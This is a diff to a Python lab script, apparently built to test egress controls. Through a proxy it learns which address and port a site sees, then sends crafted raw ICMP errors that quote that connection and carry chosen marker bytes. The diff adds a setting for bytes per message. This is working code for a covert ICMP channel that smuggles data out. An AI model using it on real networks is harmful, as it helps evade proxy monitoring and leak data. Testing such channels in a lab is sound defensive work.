@@ -86,20 +86,22 @@ def _icmp_receiver() -> None:
 
 
 def related_main() -> None:
-    """``python -c '...related_main()' SITE PORT MESSAGES [PORT_OFFSET]``: ask the site for the address and port
-    the proxy's connection comes from, then send ``MESSAGES`` quoted errors to the site while the connection stays
-    open (``PORT_OFFSET``: added to the port, a control whose quote matches no connection)."""
+    """``python -c '...related_main()' SITE PORT MESSAGES [PORT_OFFSET [CHUNK]]``: ask the site for the address and
+    port the proxy's connection comes from, then send ``MESSAGES`` quoted errors to the site while the connection
+    stays open (``PORT_OFFSET``: added to the port, a control whose quote matches no connection; ``CHUNK``: chosen
+    bytes per error, default `CHUNK`)."""
     site, port, messages = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
     offset = int(sys.argv[4]) if len(sys.argv) > 4 else 0
+    chunk = int(sys.argv[5]) if len(sys.argv) > 5 else CHUNK
     with socket.create_connection((site, port), timeout=5) as conn:
         conn.sendall(b"GET /port HTTP/1.1\r\nHost: allowed.lab\r\n\r\n")
         answer = conn.recv(4096)
         seen_from, seen_port = answer.split(b"\r\n\r\n", 1)[1].decode().split()
         print(f"the site sees {seen_from}:{seen_port}", flush=True)
-        secret = (MARK * (CHUNK // len(MARK) + 1))[:CHUNK]
+        secret = (MARK * (chunk // len(MARK) + 1))[:chunk]
         raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
         for _ in range(messages):
             raw.sendto(quoted_error(site, port, seen_from, int(seen_port) + offset, secret), (site, 0))
             time.sleep(0.01)
-        print(f"sent {messages} errors of {CHUNK} chosen bytes", flush=True)
+        print(f"sent {messages} errors of {chunk} chosen bytes", flush=True)
         time.sleep(1)
